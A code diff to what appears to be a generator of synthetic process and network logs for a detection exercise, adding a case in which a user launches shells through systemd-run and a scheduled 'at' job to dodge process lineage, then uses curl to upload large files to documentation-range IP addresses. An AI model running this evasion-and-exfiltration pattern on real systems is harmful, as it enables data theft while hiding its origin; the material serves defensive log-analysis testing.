@@ -216,6 +216,25 @@ def forged_login():
     return story.text()
 
 
+def asked_for():
+    """alice has the service manager run a shell for her, and queues a job for later."""
+    story = Story()
+    shell = story.login_shell()
+    shell.fork(910).exec("/usr/bin/systemd-run", "systemd-run", "-t", "bash", "-l")
+    init = story.process(1, 0, "/usr/lib/systemd/systemd")
+    bash = init.fork(920, tty="pts4").exec("/usr/bin/bash", "/usr/bin/bash", "-l")
+    bash.fork(921).exec("/usr/bin/curl", "curl", "-T", "f", "https://203.0.113.9/").upload(
+        5, "203.0.113.9", 443, 700, 200_000_000)
+    shell.fork(930).exec("/usr/bin/at", "at", "03:00")
+    story.wait(3600)
+    atd = story.process(310, 1, "/usr/sbin/atd")
+    job = atd.fork(940, uid=1000).exec("/usr/bin/dash", "sh")
+    job.fork(941).exec("/usr/bin/curl", "curl", "-T", "g", "https://203.0.113.8/").upload(
+        5, "203.0.113.8", 443, 700, 200_000_000)
+    story.chatter()
+    return story.text()
+
+
 def one_job():
     story = scp_job()
     story.chatter()
@@ -230,6 +249,7 @@ LOGS = {"scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titl
         "scan-nightly": two_nights,
         "scan-other-clothes": other_clothes,
         "scan-forged-login": forged_login,
+        "scan-asked-for": asked_for,
         "transfers": several_transfers, "explain": one_job, "rules-mistakes": one_job}
 
 for case in sys.argv[1:] or LOGS:
